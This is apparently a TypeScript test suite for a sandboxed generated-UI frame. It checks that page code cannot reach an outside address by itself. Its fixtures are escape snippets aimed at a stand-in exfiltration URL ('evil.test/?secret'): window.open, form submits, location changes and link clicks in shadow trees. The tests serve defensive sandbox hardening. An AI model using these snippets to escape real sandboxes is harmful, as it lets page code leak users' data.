import { assert, describe, it } from "@effect/vitest"
import { openView, viewDocument } from "../harness/index.ts"
import type { OpenViewOptions, View } from "../harness/index.ts"

const EVIL = "https://evil.test/?secret"

interface Opened {
  readonly view: View
  /** What the network was asked for at the address that the page wants to reach. */
  readonly asked: ReadonlyArray<string>
  readonly links: () => ReadonlyArray<unknown>
}

/** A generated page whose code runs once `globalThis.go` is called: nothing that it asks for goes unseen. */
const open = async (code: string, options: Omit<OpenViewOptions, "html"> = {}, markup = ""): Promise<Opened> => {
  const html = await viewDocument({
    markup: `<main><h1>Page</h1>${markup}</main>`,
    module: `const { App } = globalThis.mcpGenUi.extApps
      const evil = ${JSON.stringify(EVIL)}
      globalThis.heard = []
      globalThis.go = () => { ${code} }
      await new App({}).connect()`
  })
  const view = await openView({ html, ...options })
  const asked: Array<string> = []
  view.page.on("request", (request) => {
    if (request.url().includes("evil")) asked.push(request.url())
  })
  return {
    view,
    asked,
    links: () => view.requests.filter(({ method }) => method === "ui/open-link").map(({ params }) => params.url)
  }
}

/** Runs the code, and sees that the frame is where it was, and that nothing went over the network. */
const stays = async ({ view, asked }: Opened): Promise<void> => {
  const url = view.frame.url()
  await view.page.mouse.click(5, 5)
  await view.frame.evaluate("new Promise((done) => setTimeout(() => { done(); go() }))")
  await view.settle()
  assert.deepStrictEqual(asked, [])
  assert.strictEqual(view.frame.url(), url)
  assert.isTrue(await view.frame.getByRole("heading", { name: "Page" }).isVisible())
  assert.strictEqual(view.page.context().pages().length, 1)
}

const LINK = `const a = document.createElement("a"); a.href = evil;`

const THROUGH_HOST: ReadonlyArray<readonly [name: string, code: string]> = [
  ["a link in no document, clicked", `${LINK} a.click()`],
  ["a link in no document that a press is sent to", `${LINK} a.dispatchEvent(new MouseEvent("click"))`],
  ["a link in no document and an event of no kind", `${LINK} a.dispatchEvent(new Event("click"))`],
  ["what stands in a link in no document", `${LINK} a.append(document.createElement("b")); a.firstChild.click()`],
  [
    "a drawn link in no document",
    `const a = document.createElementNS("http://www.w3.org/2000/svg", "a"); a.setAttribute("href", evil)
     a.dispatchEvent(new MouseEvent("click"))`
  ],
  [
    "a link in the page and a press that cannot be prevented",
    `${LINK} document.body.append(a); a.dispatchEvent(new MouseEvent("click"))`
  ],
  [
    "a link in a closed tree of the page",
    `${LINK} const tree = document.querySelector("main").appendChild(document.createElement("div")).attachShadow({ mode: "closed" })
     tree.append(a); a.click()`
  ],
  [
    "a link whose handler gives it another address",
    `const a = document.createElement("a"); a.href = "#here"; a.onclick = () => { a.href = evil }
     document.body.append(a); a.click()`
  ],
  ["window.open", `window.open(evil, "_self")`],
  ["document.open with an address", `document.open(evil, "_self", "")`]
]

const NOWHERE: ReadonlyArray<readonly [name: string, code: string]> = [
  [
    "a form in the page",
    `const form = document.createElement("form"); form.action = evil; document.body.append(form); form.submit(); form.requestSubmit()`
  ],
  [
    "a form in the page whose button keeps its press to itself",
    `const form = document.createElement("form"); form.action = evil
     const button = form.appendChild(document.createElement("button")); button.onclick = (event) => event.stopPropagation()
     document.body.append(form); button.click()`
  ],
  [
    "a form in a tree of its own",
    `const tree = document.body.appendChild(document.createElement("div")).attachShadow({ mode: "closed" })
     tree.innerHTML = '<form action="' + evil + '"><button>Go</button></form>'
     tree.querySelector("button").click()`
  ]
]

describe("code of a page does not get out by", () => {
  for (const [name, code] of THROUGH_HOST) {
    it(`${name}: the host opens it`, async () => {
      const opened = await open(code)
      await stays(opened)
      assert.deepStrictEqual(opened.links(), [EVIL])
    })
  }

  for (const [name, code] of NOWHERE) {
    it(`${name}, in a frame that may send forms`, async () => {
      const opened = await open(code, { sandbox: "allow-scripts allow-forms allow-popups" })
      await stays(opened)
      assert.deepStrictEqual(opened.links(), [])
    })
  }

  it("an address for the whole frame, where the page has an origin", async () => {
    const opened = await open("location.href = evil; setTimeout(() => location.replace(evil))", {
      sandbox: "allow-scripts allow-same-origin"
    })
    await stays(opened)
  })

  it("a peer connection", async () => {
    const { view } = await open("")
    assert.deepStrictEqual(await view.frame.evaluate("[typeof RTCPeerConnection, typeof webkitRTCPeerConnection]"), [
      "undefined",
      "undefined"
    ])
  })
})

describe("without a press, code of a page opens nothing at all by", () => {
  for (const [name, code] of THROUGH_HOST) {
    it(name, async () => {
      const opened = await open(code)
      await opened.view.frame.evaluate("go()")
      await opened.view.settle()
      assert.deepStrictEqual([opened.links(), opened.asked], [[], []])
    })
  }
})

describe("code of a page still", () => {
  it("presses its own buttons, links and boxes, in the page and out of it", async () => {
    const opened = await open(
      `const out = document.createElement("button")
       out.onclick = () => heard.push("out"); out.click()
       const [button, box, link] = document.querySelectorAll("main :is(button, input, a)")
       button.onclick = () => heard.push("button"); button.click()
       box.click(); heard.push(box.checked)
       link.onclick = (event) => { event.preventDefault(); heard.push("link") }
       link.click(); heard.push(link.dispatchEvent(new MouseEvent("click", { cancelable: true })))
       const bus = new EventTarget(); bus.addEventListener("click", () => heard.push("bus")); bus.dispatchEvent(new Event("click"))
       dispatchEvent(new Event("resize"))
       const place = document.createElement("a"); place.href = "#there"; place.click()`,
      {},
      `<button>One</button><input type="checkbox" aria-label="Two"><a href="${EVIL}">Three</a>`
    )
    const { view } = opened
    await view.frame.evaluate("go()")
    assert.deepStrictEqual(await view.frame.evaluate("heard"), ["out", "button", true, "link", "link", false, "bus"])
    await view.until("location.hash === '#there'")
    assert.deepStrictEqual(opened.links(), [])
  })

  it("saves a file by a link in no document", async () => {
    const { view } = await open(
      `const a = document.createElement("a"); a.download = "rows.csv"
       a.href = URL.createObjectURL(new Blob(["a,b"])); a.click()`,
      { sandbox: "allow-scripts allow-downloads" }
    )
    await view.page.mouse.click(5, 5)
    const download = view.page.waitForEvent("download")
    await view.frame.evaluate("go()")
    assert.strictEqual((await download).suggestedFilename(), "rows.csv")
  })
})
